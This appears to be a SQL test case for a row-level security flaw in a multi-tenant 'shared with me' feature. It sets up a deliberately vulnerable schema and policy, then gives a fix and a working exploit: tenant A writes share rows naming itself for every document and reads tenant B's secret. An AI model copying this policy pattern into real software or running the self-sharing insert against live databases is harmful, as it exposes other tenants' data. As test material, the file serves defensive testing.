-- What: "Shared with me": a document is shown to whom a row of shares names, and every tenant may write rows that name itself.
-- Class: policy_lookup_writable
-- Object: public.documents | public.shares
-- Exploit: INSERT a share of every document number with oneself.
-- Source: sharing and collaboration tables whose policy asks for whom a share is, and not whose the document is
-- @schema
create table documents (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
create table shares (tenant_id uuid not null, document_id bigint not null references documents, primary key (tenant_id, document_id));
alter table documents enable row level security;
alter table documents force row level security;
alter table shares enable row level security;
alter table shares force row level security;
create policy tenant on documents using (tenant_id::text = current_setting('app.tenant_id', true));
create policy shared_with on documents for select using (exists (select from shares s where s.document_id = documents.id
  and s.tenant_id::text = current_setting('app.tenant_id', true)));
create policy tenant on shares using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on documents to app_user;
grant select, insert, delete on shares to app_user;
-- @rows
insert into documents (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
revoke insert on shares from app_user;
-- @control
select from documents where tenant_id = :'A';
-- @exploit
insert into shares select :'A', n from generate_series(1, 2) n;
select body from documents where body = 'B-secret';
